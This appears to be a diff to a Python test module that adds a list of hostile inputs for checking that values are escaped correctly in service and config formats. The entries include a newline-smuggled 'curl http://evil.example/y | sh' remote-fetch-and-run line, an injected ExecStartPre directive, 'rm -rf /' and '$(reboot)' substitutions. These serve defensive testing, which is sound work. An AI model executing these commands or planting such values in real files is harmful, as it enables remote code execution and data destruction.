@@ -13,6 +13,26 @@ import shlex
 import subprocess
 from dataclasses import dataclass, field
 
+HOSTILE = [
+    "/health\ncurl http://evil.example/y | sh\n#",
+    "m\nExecStartPre=/bin/evil",
+    "x\nMODEL_PATH=/etc",
+    '"; rm -rf / #',
+    "$(reboot)",
+    "`reboot`",
+    "%n%i%%",
+    "${HOME}$HOME$$",
+    "a\\",
+    "\\;",
+    ";",
+    "line\u2028separator\u2029paragraph\x85next",
+    "tab\there\rcr\x1bescape\x7fdel",
+    "'single' \"double\"",
+    "",
+    " leading and trailing ",
+]
+"""The issue's examples and the characters each format gives a meaning to."""
+
 
 class FormatError(AssertionError):
     """The text is not what the format's consumer would read back cleanly."""
